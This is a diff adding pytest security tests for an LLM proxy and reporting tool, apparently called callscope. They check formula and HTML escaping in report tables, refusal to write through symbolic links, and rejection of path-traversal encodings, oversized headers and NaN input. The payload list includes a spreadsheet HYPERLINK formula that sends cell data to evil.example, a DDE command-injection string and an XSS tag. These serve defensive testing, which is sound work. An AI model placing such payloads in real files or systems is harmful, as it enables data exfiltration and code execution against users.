@@ -5,13 +5,21 @@ raw socket); everything stays on 127.0.0.1, bounded in count and time, waits on 
 
 from __future__ import annotations
 
+import contextlib
+import csv
 import json
+import os
+import shutil
+import signal
 import socket
+import subprocess
+import sys
 import time
 from pathlib import Path
 
 import httpx
-from proxyserve import callscope_serve, raw_exchange
+import pytest
+from proxyserve import callscope_serve, raw_exchange, read_all
 from rawupstream import TOOLS, chat, raw_upstream
 from test_proxy_attacks import decisions, peak_rss_mib, post, status_line
 
@@ -237,3 +245,265 @@ def test_a_store_that_cannot_be_written_is_said_everywhere(tmp_path: Path) -> No
     assert last.headers["X-Callscope-Store"].startswith("failing; unstored=")
     assert err.count("decision NOT stored") >= unstored
     assert code != 0
+
+
+# --------------------------------------------------------------------------- point 6
+
+
+def test_unrelated_requests_are_answered_while_huge_answers_are_checked(tmp_path: Path) -> None:
+    """Three concurrent answers with 60 MB of arguments: a GET sent once they are all in
+    flight is answered (and correctly) before the last of them; the checks run on worker
+    threads. Ordering only, never a time bound."""
+    import concurrent.futures
+
+    with (
+        raw_upstream(huge_mb=60) as up,
+        callscope_serve(up.url, tmp_path / "run", "--attempts", "0") as served,
+        concurrent.futures.ThreadPoolExecutor(3) as pool,
+    ):
+        heavy = [
+            pool.submit(
+                httpx.post, served.url + "/chat/completions", content=chat("huge"), timeout=300
+            )
+            for _ in range(3)
+        ]
+        assert wait_until(lambda: len(up.requests) == 3, timeout=60)
+        models = httpx.get(served.url + "/models", timeout=300)
+        pending_when_answered = sum(not f.done() for f in heavy)
+        replies = [f.result() for f in heavy]
+    assert models.status_code == 200
+    assert pending_when_answered >= 1
+    assert {r.headers[GUARD_HEADER] for r in replies} == {"unrepaired"}  # too large to read
+
+
+# --------------------------------------------------------------------------- points 9-11
+
+
+PAYLOAD_MODELS = (
+    '=HYPERLINK("http://evil.example/?"&A1,"c")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "<img src=x onerror=alert(1)>",
+)
+
+
+def proxy_run(tmp_path: Path) -> Path:
+    """A run directory of ``callscope serve`` with one passing decision per payload model."""
+    from rawupstream import QUERY
+
+    run = tmp_path / "run"
+    with raw_upstream() as up, callscope_serve(up.url, run) as served:
+        for model in PAYLOAD_MODELS:
+            body = json.dumps({"model": model, "messages": QUERY, "tools": TOOLS})
+            r = httpx.post(served.url + "/chat/completions", content=body, timeout=60)
+            assert r.headers[GUARD_HEADER] == "passed"
+    return run
+
+
+def cli(*args: str, timeout: float = 300) -> subprocess.CompletedProcess[str]:
+    env = {**os.environ, "NO_COLOR": "1", "COLUMNS": "2000"}
+    cmd = [sys.executable, "-c", "from callscope.cli.main import main; main()", *args]
+    return subprocess.run(cmd, capture_output=True, text=True, timeout=timeout, env=env)
+
+
+def test_report_tables_neutralise_formulas_and_html(tmp_path: Path) -> None:
+    run = proxy_run(tmp_path)
+    r = cli("report", str(run))
+    assert r.returncode == 0, r.stderr[-2000:]
+    csv_cells = [
+        cell
+        for path in sorted((run / "tables").glob("*.csv"))
+        for row in csv.reader(path.read_text(encoding="utf-8").splitlines())
+        for cell in row
+    ]
+    assert "'" + PAYLOAD_MODELS[0] in csv_cells
+    assert "'" + PAYLOAD_MODELS[1] in csv_cells and "'" + PAYLOAD_MODELS[2] in csv_cells
+    assert not [c for c in csv_cells if c[:1] in "=+@"]
+    assert not [c for c in csv_cells if c[:1] == "-" and c != "-" and not _number(c)]
+    markdown = "".join(p.read_text(encoding="utf-8") for p in (run / "tables").glob("*.md"))
+    assert "&lt;img src=x onerror=alert(1)&gt;" in markdown
+    assert "<img" not in markdown
+
+
+def _number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
+
+
+def test_report_never_writes_through_a_symbolic_link(tmp_path: Path) -> None:
+    run = proxy_run(tmp_path)
+    victim = tmp_path / "victim"
+    victim.write_text("precious\n")
+    victim_dir = tmp_path / "victim-dir"
+    victim_dir.mkdir()
+    assert cli("report", str(run)).returncode == 0  # tables/ and figures/ exist now
+    plants = [
+        run / "tables" / "aggregate.csv",
+        next((run / "figures").glob("*.png")),
+    ]
+    for plant in plants:
+        plant.unlink()
+        plant.symlink_to(victim)
+        r = cli("report", str(run))
+        assert r.returncode == 2, r.stderr[-2000:]
+        assert "is a symbolic link" in r.stderr and "Traceback" not in r.stderr
+        assert victim.read_text() == "precious\n"
+        plant.unlink()
+    shutil.rmtree(run / "tables")
+    (run / "tables").symlink_to(victim_dir)
+    r = cli("report", str(run))
+    assert r.returncode == 2 and "is a symbolic link" in r.stderr
+    assert list(victim_dir.iterdir()) == []
+
+
+# --------------------------------------------------------------------------- point 12
+
+
+@pytest.mark.parametrize("command", ["classify", "score"])
+def test_a_20_gb_sparse_file_is_refused_before_it_is_read(command: str, tmp_path: Path) -> None:
+    big = tmp_path / "big.jsonl"
+    with big.open("wb") as fh:
+        fh.truncate(20 * 1024**3)  # sparse: no disk used
+    r = cli(command, str(big), "-o", str(tmp_path / "out.jsonl"), timeout=120)
+    assert r.returncode == 2, r.stderr[-2000:]
+    assert "is over 536870912 bytes; split it" in r.stderr
+    assert "Traceback" not in r.stderr
+
+
+# --------------------------------------------------------------------------- point 13
+
+
+def test_a_truncated_store_is_an_error_not_a_traceback(tmp_path: Path) -> None:
+    run = proxy_run(tmp_path)
+    store = run / "store.sqlite"
+    store.write_bytes(store.read_bytes()[:3000])
+    r = cli("report", str(run))
+    assert r.returncode == 2, r.stderr[-2000:]
+    assert "the run store cannot be read" in r.stderr and "Traceback" not in r.stderr
+
+
+def test_an_experiment_nested_100000_deep_is_an_error_not_a_traceback(tmp_path: Path) -> None:
+    deep = tmp_path / "deep.toml"
+    deep.write_text("x = " + "[" * 100_000 + "]" * 100_000 + "\n")
+    r = cli("experiment", str(deep), timeout=120)
+    assert r.returncode == 2, r.stderr[-2000:]
+    assert "nested too deeply" in r.stderr and "Traceback" not in r.stderr
+
+
+# --------------------------------------------------------------------------- point 14
+
+
+def test_one_writer_per_run_directory(tmp_path: Path) -> None:
+    """While ``serve -o RUN`` runs, a second ``serve -o RUN`` and a ``run -o RUN`` are
+    refused in one line, and the second run sends no request."""
+    cases = tmp_path / "cases.jsonl"
+    case = {"id": "c1", "query": "What's the weather in Paris?", "functions": TOOLS}
+    cases.write_text(json.dumps(case) + "\n")
+    with raw_upstream() as up, callscope_serve(up.url, tmp_path / "run") as served:
+        second = cli("serve", "--upstream", up.url, "--port", "0", "-o", str(tmp_path / "run"))
+        run = cli(
+            "run", str(cases), "-m", "openai:gpt-x", "--base-url", up.url,
+            "-o", str(tmp_path / "run"), "--modes", "direct",
+        )  # fmt: skip
+        assert served.proc.poll() is None
+    assert second.returncode == 2 and "being written by another callscope" in second.stderr
+    assert run.returncode == 2 and "being written by another callscope" in run.stderr
+    assert up.requests == []
+
+
+# --------------------------------------------------------------------------- point 15
+
+
+def test_secrets_in_the_upstream_url_are_neither_printed_nor_stored(tmp_path: Path) -> None:
+    with raw_upstream() as up:
+        url = up.url.replace("http://", "http://user:PASS@") + "?api_key=sk-SECRET"
+        with callscope_serve(url, tmp_path / "run") as served:
+            r = httpx.post(served.url + "/chat/completions", content=chat("ok"), timeout=60)
+            code, err = served.stop()
+            out = served.proc.stdout.read() if served.proc.stdout else ""
+    assert r.headers[GUARD_HEADER] == "passed"
+    assert up.requests[0].target == "/v1/chat/completions?api_key=sk-SECRET"  # kept upstream
+    stored = (tmp_path / "run" / "store.sqlite").read_bytes()
+    for text in (out, err):
+        assert "PASS" not in text and "sk-SECRET" not in text
+    assert b"PASS" not in stored and b"sk-SECRET" not in stored
+    assert "user:***@" in out
+
+
+# --------------------------------------------------------------------------- point 16
+
+
+def test_serve_into_an_existing_file_names_the_file(tmp_path: Path) -> None:
+    existing = tmp_path / "file"
+    existing.write_text("x")
+    r = cli("serve", "--upstream", "http://127.0.0.1:9/v1", "--port", "0", "-o", str(existing))
+    assert r.returncode == 2
+    assert "is a file, not a run directory" in r.stderr
+    assert "pick another --port" not in r.stderr
+
+
+# --------------------------------------------------------------------------- point 17
+
+
+def test_a_header_block_over_16_kib_in_pieces_is_a_431(tmp_path: Path) -> None:
+    with (
+        raw_upstream() as up,
+        callscope_serve(up.url, tmp_path / "run") as served,
+        socket.create_connection(("127.0.0.1", served.port), timeout=30) as s,
+    ):
+        s.sendall(b"GET /v1/models HTTP/1.1\r\nHost: x\r\n")
+        for i in range(20):  # 20 pieces of 1 KiB header lines
+            with contextlib.suppress(OSError):
+                s.sendall(f"X-Pad-{i}: {'a' * 1000}\r\n".encode())
+        raw = read_all(s, 30)
+    assert status_line(raw) == b"HTTP/1.1 431 Request Header Fields Too Large"
+    assert json.loads(raw.split(b"\r\n\r\n", 1)[1])["error"]["type"] == "headers_too_large"
+    assert up.requests == []
+
+
+# --------------------------------------------------------------------------- minor
+
+
+def test_double_encoding_nul_and_trace_are_never_forwarded(tmp_path: Path) -> None:
+    with raw_upstream() as up, callscope_serve(up.url, tmp_path / "run") as served:
+        base = f"http://127.0.0.1:{served.port}"
+        encoded = [
+            raw_exchange(
+                served.port,
+                f"GET {target} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".encode(),
+            )
+            for target in ("/v1/..%252f/admin", "/v1/..%00/admin")
+        ]
+        trace = httpx.request("TRACE", base + "/v1/models", timeout=30)
+    assert [status_line(r) for r in encoded] == [b"HTTP/1.1 400 Bad Request"] * 2
+    assert trace.status_code == 405
+    assert up.requests == []
+
+
+def test_a_request_with_nan_is_a_400(tmp_path: Path) -> None:
+    with raw_upstream() as up, callscope_serve(up.url, tmp_path / "run") as served:
+        body = chat("forged").replace(b'"messages"', b'"temperature": NaN, "messages"')
+        r = httpx.post(served.url + "/chat/completions", content=body, timeout=30)
+    assert r.status_code == 400
+    assert "NaN" in r.json()["error"]["message"]
+    assert up.requests == []
+
+
+def test_sigterm_ends_an_endless_stream_at_once(tmp_path: Path) -> None:
+    """SIGTERM while an endless stream runs under a 600 s upstream deadline: the stream ends
+    with a last error event and the server exits (before: it waited for the deadline)."""
+    with (
+        raw_upstream() as up,
+        callscope_serve(up.url, tmp_path / "run", "--upstream-timeout", "600") as served,
+        socket.create_connection(("127.0.0.1", served.port), timeout=60) as s,
+    ):
+        s.sendall(post(served.port, chat("endless_stream", stream=True)))
+        assert status_line(s.recv(4096)) == b"HTTP/1.1 200 OK"
+        served.proc.send_signal(signal.SIGTERM)
+        rest = read_all(s, 120)
+        code, _ = served.stop(timeout=120)
+    assert b"shutting_down" in rest
+    assert code == 0
